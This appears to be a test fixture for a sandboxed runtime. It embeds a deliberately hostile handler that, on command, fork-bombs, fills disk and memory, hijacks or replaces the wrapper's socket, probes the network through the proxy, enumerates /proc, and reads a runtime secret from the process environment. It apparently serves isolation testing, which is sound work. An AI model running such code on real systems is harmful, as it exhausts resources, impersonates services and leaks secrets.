"""A handler that attacks whatever is around it, as it is told."""

EVIL = b"""import asyncio
import os
import signal
import socket
import threading
import time
from pathlib import Path

SOCKET = Path("/run/pinmark/socket/http.sock")
MIB = 1024 * 1024
kept = []

signal.signal(signal.SIGTERM, signal.SIG_IGN)


def fork():
    for _ in range(10_000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)


def fill(folder, unlink):
    for number in range(64):
        path = Path(folder, f"{number}.bin")
        file = path.open("wb")
        kept.append(file)
        if unlink:
            path.unlink()
        for _ in range(32):
            file.write(bytes(MIB))
        file.flush()
    time.sleep(600)


def fill_memory_files():
    for number in range(64):
        descriptor = os.memfd_create("kept")
        for _ in range(32):
            os.write(descriptor, bytes(MIB))
    time.sleep(600)


def answer_instead(parts):
    \"\"\"Take the wrapper's place at the socket; every connection is sent these parts.\"\"\"
    SOCKET.unlink()
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(SOCKET))
    listener.listen()

    def serve():
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=send, args=(connection, parts)).start()

    threading.Thread(target=serve, daemon=True).start()


def send(connection, parts):
    head, filler = parts
    try:
        connection.sendall(head.encode())
        while filler:
            connection.sendall(filler.encode() * 1000)
    except OSError:
        pass
    connection.close()


def reaches(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
    except OSError as error:
        return f"no: {error}"
    return "yes"


def through_proxy(host, port):
    proxy = os.environ["HTTP_PROXY"].rpartition("/")[2].split(":")
    with socket.create_connection((proxy[0], int(proxy[1])), timeout=10) as connection:
        connection.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n".encode())
        return connection.recv(1000).split(b"\\r\\n")[0].decode()


async def handler(event):
    match event["data"]:
        case {"do": "fork"}:
            await asyncio.to_thread(fork)
        case {"do": "open files"}:
            kept.extend(open(os.devnull) for _ in range(10_000))
        case {"do": "fill", "folder": folder, "unlink": unlink}:
            await asyncio.to_thread(fill, folder, unlink)
        case {"do": "fill memory files"}:
            await asyncio.to_thread(fill_memory_files)
        case {"do": "close output"}:
            for descriptor in (0, 1, 2):
                os.close(descriptor)
        case {"do": "answer instead", "parts": parts}:
            answer_instead(parts)
        case {"do": "link", "to": path}:
            SOCKET.unlink()
            SOCKET.symlink_to(path)
        case {"do": "folder"}:
            SOCKET.unlink()
            SOCKET.mkdir()
            (SOCKET / "inside").mkdir()
            os._exit(1)
        case {"do": "block"}:
            time.sleep(600)
        case {"do": "reach", "host": host, "port": port}:
            return [reaches(host, port), through_proxy(host, port)]
        case {"do": "look around", "paths": paths}:
            pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
            return {
                "processes": len(pids),
                "commands": [Path(f"/proc/{pid}/cmdline").read_text() for pid in pids],
                "temporary": os.listdir("/tmp"),
                "below run": sorted(str(path) for path in Path("/run").rglob("*")),
                "found": [path for path in paths if os.path.exists(path)],
            }
        case {"do": "print the secret"}:
            variables = Path("/proc/self/environ").read_text().split("\\0")
            [secret] = [each for each in variables if each.startswith("PINMARK_RUNTIME_SECRET=")]
            print("the secret is", secret)
            return len(secret)
    return {"done": os.environ["PINMARK_ENVIRONMENT"]}
"""
